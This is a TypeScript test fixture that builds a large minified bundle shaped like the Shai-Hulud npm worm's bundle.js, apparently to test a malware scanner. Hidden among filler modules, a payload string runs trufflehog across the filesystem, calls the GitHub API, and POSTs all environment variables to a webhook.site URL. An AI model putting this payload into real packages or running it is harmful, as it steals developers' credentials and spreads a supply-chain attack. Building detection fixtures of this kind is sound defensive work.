/** Generates a multi-megabyte minified bundle in the shape of Shai-Hulud's bundle.js (inert: the tests never run it). */

/** Filler modules as webpack emits them, on one line, up to about `bytes`, with the payload module in the middle. */
export function shaiHuludBundle(bytes: number): string {
  const modules: string[] = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const module = `${i}:function(e,t,r){"use strict";var n=r(${(i * 7) % 500}),o=n.a(${i});t.exports=function(e){return o+e.length*${i}}}`;
    modules.push(module);
    size += module.length + 1;
  }
  const payload =
    '99999:function(e,t,r){const{execSync:n}=require("child_process"),o=require("https");' +
    'o.request({hostname:"api.github.com",path:"/user/repos",method:"POST"});n("trufflehog filesystem / --json");' +
    'const s=JSON.stringify(process.env);o.request("https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7",{method:"POST"}).end(s)}';
  modules.splice(Math.floor(modules.length / 2), 0, payload);
  return `!function(e){var t={};function r(n){if(t[n])return t[n].exports;var o=t[n]={exports:{}};return e[n](o,o.exports,r),o.exports}r(99999)}({${modules.join(',')}});\n`;
}
